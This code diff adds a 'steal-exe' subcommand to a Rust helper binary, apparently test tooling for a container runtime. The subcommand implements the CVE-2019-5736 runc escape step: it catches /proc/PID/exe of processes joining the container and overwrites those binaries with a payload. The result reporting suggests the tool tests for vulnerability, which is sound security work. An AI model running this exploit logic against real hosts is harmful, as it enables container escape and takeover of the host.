@@ -58,6 +58,7 @@ fn main() {
         })),
         "fds" => fds(),
         "wait-signal" => wait_signal(),
+        "steal-exe" => steal_exe(arg(1), arg(2).as_bytes()),
         other => usage_error(&format!("unknown subcommand {other:?}")),
     };
     print_json(&out);
@@ -157,6 +158,85 @@ fn wait_signal() -> Value {
         libc::sigwait(&set, &mut sig);
         json!({"signal": sig})
     }
+}
+
+/// CVE-2019-5736's second process, as the original exploit runs it: it watches each
+/// new process that appears in its PID namespace (a runtime joining it: an `exec`, or
+/// another container's init), opens its /proc/PID/exe with O_PATH as soon as it can,
+/// and once `stop_file` exists waits until nothing runs what it caught (ETXTBSY), then
+/// reopens each for writing through /proc/self/fd and writes `payload` over its start.
+/// Reports what it saw: how many processes appeared, the errors while they could not
+/// be opened, and per catch the file and how the write went.
+fn steal_exe(stop_file: &str, payload: &[u8]) -> Value {
+    use std::ffi::CString;
+    use std::time::{Duration, Instant};
+    let last_pid = || -> i32 {
+        fs::read_to_string("/proc/sys/kernel/ns_last_pid")
+            .ok()
+            .and_then(|s| s.trim().parse().ok())
+            .unwrap_or_else(|| usage_error("ns_last_pid unreadable"))
+    };
+    let mut refused = std::collections::BTreeSet::new();
+    let (mut caught, mut appeared, mut missed) = (Vec::new(), 0, 0);
+    eprintln!("{}", json!({"ready": true}));
+    // PIDs come in order: one at a time, from its appearance until it is caught or
+    // gone. One that came and went while this process was not running is missed.
+    let deadline = Instant::now() + Duration::from_secs(60);
+    let (mut pid, mut seen, mut spins) = (last_pid() + 1, false, 0u32);
+    while Instant::now() < deadline {
+        let path = CString::new(format!("/proc/{pid}/exe")).unwrap();
+        // SAFETY: a C string path; the fd, if any, is ours.
+        let fd = unsafe { libc::open(path.as_ptr(), libc::O_PATH | libc::O_CLOEXEC) };
+        let errno = io::Error::last_os_error().raw_os_error().unwrap_or(0);
+        if fd >= 0 || (errno == libc::ENOENT && seen) {
+            appeared += 1;
+            if fd >= 0 {
+                caught.push(fd);
+            }
+            (pid, seen) = (pid + 1, false);
+        } else if errno != libc::ENOENT {
+            seen = true;
+            refused.insert(errno);
+        } else {
+            spins += 1;
+            if spins % 256 == 0 && last_pid() >= pid && fs::metadata(format!("/proc/{pid}")).is_err() {
+                missed += 1;
+                pid += 1;
+            } else if spins % 1024 == 0 && fs::metadata(stop_file).is_ok() {
+                break;
+            }
+        }
+    }
+    let catches: Vec<Value> = caught.iter().map(|fd| overwrite(*fd, payload)).collect();
+    json!({"appeared": appeared, "missed": missed, "refused_with": refused, "caught": catches})
+}
+
+/// The exploit's last step on one caught exe: wait until the file is no longer being
+/// run, reopen it for writing and write over its start.
+fn overwrite(fd: i32, payload: &[u8]) -> Value {
+    use std::time::{Duration, Instant};
+    let by_fd = format!("/proc/self/fd/{fd}");
+    let mut report = json!({"exe": readlink(&by_fd)});
+    let deadline = Instant::now() + Duration::from_secs(10);
+    let opened = loop {
+        match fs::OpenOptions::new().write(true).open(&by_fd) {
+            Err(e) if e.raw_os_error() == Some(libc::ETXTBSY) && Instant::now() < deadline => {
+                std::thread::sleep(Duration::from_millis(2))
+            }
+            r => break r,
+        }
+    };
+    report["open_for_write"] = match &opened {
+        Ok(_) => json!("ok"),
+        Err(e) => json!(e.raw_os_error()),
+    };
+    if let Ok(file) = opened {
+        report["write"] = match std::os::unix::fs::FileExt::write_at(&file, payload, 0) {
+            Ok(n) => json!(format!("wrote {n} bytes")),
+            Err(e) => json!(e.raw_os_error()),
+        };
+    }
+    report
 }
 
 fn proc_status() -> Map<String, Value> {
